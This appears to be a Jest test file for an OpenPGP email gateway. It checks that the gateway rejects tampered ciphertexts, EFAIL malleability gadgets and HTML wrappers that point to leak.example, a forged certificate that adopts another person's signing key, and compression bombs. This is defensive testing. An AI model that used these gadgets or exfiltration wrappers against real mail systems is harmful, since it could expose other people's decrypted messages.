import net from "node:net";
import { deflateRawSync } from "node:zlib";
import { afterEach, beforeAll, beforeEach, expect, jest, test } from "@jest/globals";
import {
  AEADEncryptedDataPacket,
  armor,
  config,
  createCleartextMessage,
  createMessage,
  encrypt,
  encryptSessionKey,
  enums,
  type PartialConfig,
  type PrivateKey,
  type PublicKey,
  readKey,
  SymEncryptedIntegrityProtectedDataPacket,
  sign,
} from "openpgp";
import { type GatewayKeys, openGatewayKeys } from "../../../bridge/gateway/gateway-keys.ts";
import { Database } from "../../../foundation/database.ts";
import { addressesOf } from "../../../legacy-gateway/openpgp/key-material.ts";
import { HOUR, NOW, someKey } from "./some-keys.ts";
import { encryptedLetter, FROM, NEEDLE, only, PAYLOAD, signedLetter, textOf } from "./some-letters.ts";
import { asPacket, changed, literal, packet } from "./some-packets.ts";

const [ALICE, BOB, MALLORY] = ["alice@example.org", "bob@example.org", "mallory@example.org"];
const date = new Date(NOW - HOUR);
/** AEAD for who has a key of version 4. */
const AEAD = { aeadProtect: true, preferredAEADAlgorithm: enums.aead.ocb } satisfies PartialConfig;

let alice: PrivateKey;
let modern: PrivateKey;
let bob: PrivateKey;
let mallory: PrivateKey;
let db: Database;
let keys: GatewayKeys;
let asked: string[];

beforeAll(async () => {
  alice = await someKey(ALICE);
  modern = await someKey(ALICE, { type: "curve25519", config: { v6Keys: true, aeadProtect: true } });
  bob = await someKey(BOB, { subkeys: [{ sign: true }, {}] });
  mallory = await someKey(MALLORY);
});

beforeEach(async () => {
  db = new Database(":memory:");
  asked = [];
  const fetch = async (url: string) => {
    asked.push(url);
    return undefined;
  };
  keys = openGatewayKeys({
    db,
    now: () => NOW,
    notify: () => undefined,
    lookup: { places: ["wkd", "keyserver"], fetch },
  });
  const book = await keys.book();
  for (const own of [alice, modern]) await book.keepOwn(own);
  await book.learn(bob.toPublic(), BOB, "import");
});
afterEach(() => db.close());

/** What the mail program sees of a letter: whether the needle, and what is said of it. Nothing is fetched meanwhile. */
async function seen(letter: string) {
  const connects = jest.spyOn(net.Socket.prototype, "connect");
  try {
    const { content, keywords } = await keys.read({ account: ALICE, content: only(letter) });
    const text = await textOf(content);
    expect(connects).not.toHaveBeenCalled();
    expect(asked).toEqual([]);
    const result = /x-openpgp=(\w+)/.exec(text)?.[1];
    const encryption = /policy\.encryption=([\w-]+)/.exec(text)?.[1];
    const opened = [NEEDLE, Buffer.from(NEEDLE).toString("base64").slice(0, 12)].some((needle) =>
      text.includes(needle),
    );
    expect(keywords.includes("$Signed")).toBe(result === "pass");
    expect(keywords.includes("$Encrypted")).toBe(encryption === "opened");
    return { text, opened, result, encryption };
  } finally {
    connects.mockRestore();
  }
}

async function message(payload = PAYLOAD, to: PublicKey = alice.toPublic(), made: PartialConfig = {}): Promise<string> {
  const binary = await createMessage({ binary: Buffer.from(payload, "latin1") });
  return await encrypt({ message: binary, encryptionKeys: to, signingKeys: bob, date, config: made });
}

async function detached(part: string, key: PrivateKey): Promise<string> {
  const binary = await createMessage({ binary: Buffer.from(part, "latin1") });
  return await sign({ message: binary, signingKeys: key, detached: true, date });
}

/** The packets, encrypted to alice under a packet of that kind. */
async function seal(packets: Buffer, kind: "tag 20" | "version 2" | "version 1"): Promise<Buffer> {
  const key = new Uint8Array(32).fill(7);
  const session = { data: key, algorithm: "aes256" as const, encryptionKeys: alice.toPublic(), date };
  const inside = { packets: { write: () => new Uint8Array(packets) } };
  const sealed = (kind === "tag 20"
    ? Object.assign(new AEADEncryptedDataPacket(), inside)
    : Object.assign(new SymEncryptedIntegrityProtectedDataPacket(), inside, {
        version: kind === "version 2" ? 2 : 1,
      })) as unknown as {
    cipherAlgorithm: number;
    aeadAlgorithm: number;
    encrypt(algorithm: number, key: Uint8Array, config: object): Promise<void>;
    write(): Uint8Array;
  };
  if (kind !== "version 1")
    Object.assign(sealed, { cipherAlgorithm: enums.symmetric.aes256, aeadAlgorithm: enums.aead.ocb });
  await sealed.encrypt(enums.symmetric.aes256, key, { ...config, aeadChunkSizeByte: 0 });
  const opening = Buffer.from(await encryptSessionKey({ ...session, format: "binary" }));
  return Buffer.concat([opening, asPacket(kind === "tag 20" ? 20 : 18, await whole(sealed.write()))]);
}

/** OpenPGP.js gives some packets as a stream of its own kind. */
async function whole(octets: Uint8Array | Pick<ReadableStream<Uint8Array>, "getReader">): Promise<Buffer> {
  if (!("getReader" in octets)) return Buffer.from(octets);
  const reader = octets.getReader();
  const chunks: Uint8Array[] = [];
  for (let next = await reader.read(); !next.done; next = await reader.read()) chunks.push(next.value);
  return Buffer.concat(chunks);
}

function armored(packets: Buffer): string {
  return armor(enums.armor.message, packets);
}

test.each(["tag 20", "version 1"] as const)(
  "%s: what is whole is opened; changed, cut or reordered anywhere, nothing of it is shown",
  async (kind) => {
    const sealed = await seal(literal(PAYLOAD + "x".repeat(1_000)), kind);
    const tag = kind === "tag 20" ? 20 : 18;
    expect(await seen(encryptedLetter(armored(sealed)))).toMatchObject({
      opened: true,
      encryption: "opened",
      result: "none",
    });
    const { start, body } = packet(sealed, tag);
    const head = sealed.subarray(0, start);
    for (const at of [20, 60, 200, body.length - 30, body.length - 10, body.length - 1]) {
      const flipped = Buffer.from(body);
      flipped.writeUInt8((flipped[at] ?? 0) ^ 1, at);
      for (const broken of [flipped, body.subarray(0, at)]) {
        const { opened, encryption } = await seen(
          encryptedLetter(armored(Buffer.concat([head, asPacket(tag, broken)]))),
        );
        expect([at, opened]).toEqual([at, false]);
        expect(["no-integrity", "broken"]).toContain(encryption);
      }
    }
  },
);

test("AEAD of version 2 is opened with keys of version 4 and 6; a chunk that is gone or changed closes it", async () => {
  const own = await readKey({ armoredKey: modern.toPublic().armor() });
  const letter = await message(`${PAYLOAD}${"x".repeat(5_000)}`, own, { ...AEAD, aeadChunkSizeByte: 0 });
  expect(await seen(encryptedLetter(letter))).toMatchObject({ opened: true, result: "pass" });
  for (const at of [0.1, 0.5, 0.9]) {
    const without = changed(letter, (packets) => {
      const { start, body } = packet(packets, 18);
      const cut = Math.floor(36 + (body.length - 36) * at);
      return Buffer.concat([
        packets.subarray(0, start),
        asPacket(18, Buffer.concat([body.subarray(0, cut), body.subarray(cut + 80)])),
      ]);
    });
    expect(await seen(encryptedLetter(without))).toMatchObject({ opened: false, result: "none" });
  }
});

test("EFAIL: a gadget that rewrites the first blocks, with the protection kept, stripped, or its packet renamed", async () => {
  const sealed = await message(`Content-Type: text/html\r\n\r\n<p>${NEEDLE}</p>\r\n`);
  // What CFB allows who knows the first octets of the plain text: to write others over them.
  const gadget = changed(sealed, (packets) => {
    const { start, body } = packet(packets, 18);
    const copy = Buffer.from(body);
    const wanted = Buffer.from('<img src="http://leak');
    for (let at = 0; at < wanted.length; at++)
      copy.writeUInt8((copy[at + 24] ?? 0) ^ (wanted[at] ?? 0) ^ 0x20, at + 24);
    return Buffer.concat([packets.subarray(0, start), asPacket(18, copy)]);
  });
  const rebuilt = (change: (body: Buffer) => Buffer) =>
    changed(gadget, (packets) => {
      const { start, body } = packet(packets, 18);
      return Buffer.concat([packets.subarray(0, start), change(body)]);
    });
  for (const letter of [
    gadget,
    rebuilt((body) => asPacket(18, body.subarray(0, -22))),
    rebuilt((body) => asPacket(9, body.subarray(1))),
    rebuilt((body) => asPacket(9, body.subarray(1, -22))),
    rebuilt((body) => Buffer.concat([asPacket(18, body.subarray(0, -22)), asPacket(19, body.subarray(-20))])),
  ]) {
    const { opened, encryption, text } = await seen(encryptedLetter(letter));
    expect(opened).toBe(false);
    expect(text).not.toContain("leak");
    expect(["no-integrity", "broken"]).toContain(encryption);
  }
});

test("EFAIL: what wraps an encrypted letter in HTML is never shown together with what is in it", async () => {
  const inner = encryptedLetter(await message(), "");
  const block = (await message(NEEDLE)).replace(/\r?\n/g, "\r\n");
  const image = '<img src="http://leak.example/';
  for (const kind of ["mixed", "alternative", "related"]) {
    const parts = [`Content-Type: text/html\r\n\r\n${image}`, inner, 'Content-Type: text/html\r\n\r\n">'];
    const letter = `${FROM}Content-Type: multipart/${kind}; boundary="mix"\r\n\r\n${parts.map((part) => `--mix\r\n${part}\r\n`).join("")}--mix--\r\n`;
    expect(await seen(letter)).toMatchObject({ opened: false, encryption: "unknown" });
  }
  const html = `${FROM}Content-Type: text/html\r\n\r\n${image}\r\n${block}\r\n">\r\n`;
  expect(await seen(html)).toMatchObject({ opened: false, encryption: "unknown" });
  const third = inner.replace("--enc--", `--enc\r\nContent-Type: text/html\r\n\r\n${image}">\r\n--enc--`);
  expect(await seen(FROM + third)).toMatchObject({ opened: false, encryption: "unknown" });
  const twice = `${FROM}Content-Type: text/plain\r\n\r\n${image}\r\n${block}\r\n${block}\r\n">\r\n`;
  expect(await seen(twice)).toMatchObject({ opened: false, encryption: "unknown" });
});

test("remote content inside an encrypted letter is handed on and never fetched", async () => {
  const html = `Content-Type: text/html\r\n\r\n<img src="http://leak.example/a.png"><link href="http://leak.example/b.css">${NEEDLE}\r\n`;
  expect(await seen(encryptedLetter(await message(html)))).toMatchObject({ opened: true, result: "pass" });
});

test("a signature over a part of the letter is not shown as one over the letter", async () => {
  const signed = signedLetter(PAYLOAD, await detached(PAYLOAD, bob), "");
  const list = `${FROM}Content-Type: multipart/mixed; boundary="mix"\r\n\r\n--mix\r\n${signed}\r\n--mix\r\nContent-Type: text/plain\r\n\r\nPay to mallory.\r\n--mix--\r\n`;
  expect(await seen(list)).toMatchObject({ result: "none", encryption: "none" });
  expect(await seen(encryptedLetter(await encryptedOnly(list.slice(FROM.length))))).toMatchObject({
    opened: true,
    result: "none",
  });
  const clear = (
    await sign({ message: await createCleartextMessage({ text: NEEDLE }), signingKeys: bob, date })
  ).replace(/\r?\n/g, "\r\n");
  const head = `${FROM}Content-Type: text/plain; charset=utf-8\r\n\r\n`;
  expect(await seen(`${head}${clear}\r\n`)).toMatchObject({ result: "pass" });
  expect(await seen(`${head}${clear}\r\nPay to mallory.\r\n`)).toMatchObject({ result: "policy" });
  expect(await seen(`${head}Pay to mallory.\r\n\r\n${clear}`)).toMatchObject({ result: "policy" });
  const swapped = signedLetter(PAYLOAD, await detached(PAYLOAD, bob)).replace(
    "--sig\r\nContent-Type: text/plain",
    "--sig\r\nContent-Type: text/plain\r\n\r\nfirst\r\n--sig\r\nContent-Type: text/plain",
  );
  expect((await seen(swapped)).result).toBe("none");
});

async function encryptedOnly(payload: string): Promise<string> {
  const binary = await createMessage({ binary: Buffer.from(payload, "latin1") });
  return await encrypt({ message: binary, encryptionKeys: alice.toPublic(), date });
}

/** Mallory's certificate with Bob's signing key put into it, which has not agreed to that. */
async function adopting(): Promise<PublicKey> {
  const theirs = bob.toPublic().subkeys.find(({ bindingSignatures: [binding] }) => binding?.embeddedSignature !== null);
  const [binding] = mallory.subkeys[0]?.bindingSignatures ?? [];
  if (theirs === undefined || binding === undefined) throw new Error("there is no such subkey");
  const forged = Object.assign(Object.create(Object.getPrototypeOf(binding) as object) as typeof binding, binding, {
    keyFlags: new Uint8Array([enums.keyFlags.signData]),
    hashed: undefined,
    embeddedSignature: null,
  });
  const signing = forged as unknown as {
    sign(key: object, data: object, date: Date, detached: boolean, config: object): Promise<void>;
  };
  const bound = { key: mallory.keyPacket, bind: theirs.keyPacket };
  await signing.sign(mallory.keyPacket, bound, date, false, {
    ...config,
    nonDeterministicSignaturesViaNotation: false,
  });
  const octets = Buffer.concat([
    Buffer.from(mallory.toPublic().write()),
    asPacket(14, Buffer.from(theirs.keyPacket.write())),
    asPacket(2, Buffer.from(forged.write())),
  ]);
  return await readKey({ binaryKey: new Uint8Array(octets) });
}

test("who puts another one's signing key into a certificate neither gets that one's letters, nor spoils them", async () => {
  const forged = await adopting();
  expect(forged.getKeys()).toHaveLength(3);
  expect(await addressesOf(forged, NOW)).toEqual([MALLORY]);
  const book = await keys.book();
  const letter = signedLetter(PAYLOAD, await detached(PAYLOAD, bob));
  await book.learn(forged, MALLORY, "attachment");
  const signing = forged.getKeys()[2]?.getKeyID().toHex() ?? "";
  expect(keys.store.withKeyIds([signing])).toHaveLength(1);
  expect(await seen(letter)).toMatchObject({ result: "pass" });
  expect((await seen(letter.replace(BOB, MALLORY))).result).toBe("policy");
});

test("bombs in bombs, and a message that is nothing but packets, are refused within bounds", async () => {
  const compressed = (inside: Buffer) => asPacket(8, Buffer.concat([Buffer.from([1]), deflateRawSync(inside)]));
  const small = compressed(compressed(compressed(literal(PAYLOAD))));
  expect((await seen(encryptedLetter(armored(await seal(small, "version 1"))))).encryption).not.toBe("none");
  const markers = Buffer.concat(Array<Buffer>(20_000).fill(asPacket(10, Buffer.from("PGP"))));
  expect(await seen(encryptedLetter(armored(markers)))).toMatchObject({ opened: false });
  const signatures = Buffer.concat(Array<Buffer>(50).fill(Buffer.from(await signatureOf(PAYLOAD))));
  const many = signedLetter(PAYLOAD, armor(enums.armor.signature, signatures));
  expect((await seen(many)).result).not.toBe("pass");
}, 60_000);

async function signatureOf(part: string): Promise<Uint8Array> {
  const binary = await createMessage({ binary: Buffer.from(part, "latin1") });
  return (await sign({ message: binary, signingKeys: bob, detached: true, date, format: "binary" })) as Uint8Array;
}
